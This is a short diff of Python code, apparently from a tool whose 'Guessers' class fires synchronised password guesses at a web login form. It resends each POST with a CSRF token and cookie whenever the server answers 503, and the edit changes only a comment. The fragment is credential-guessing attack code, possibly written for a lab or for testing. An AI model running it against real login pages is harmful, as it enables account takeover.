@@ -40,7 +40,7 @@ class Guessers:
         """Send one guess and return its result as a word."""
         sent = urlencode({"csrfmiddlewaretoken": self.token, "login": address, "password": password})
         self.start.wait()
-        status = 503  # not tried: too many requests at once (crm.gate)
+        status = 503  # not tried: too many requests at once (crm.reserved_threads)
         while status == 503:
             connection = HTTPConnection(self.host, timeout=60)
             connection.request("POST", LOGIN, sent, {"Content-Type": FORM, "Cookie": self.cookie})
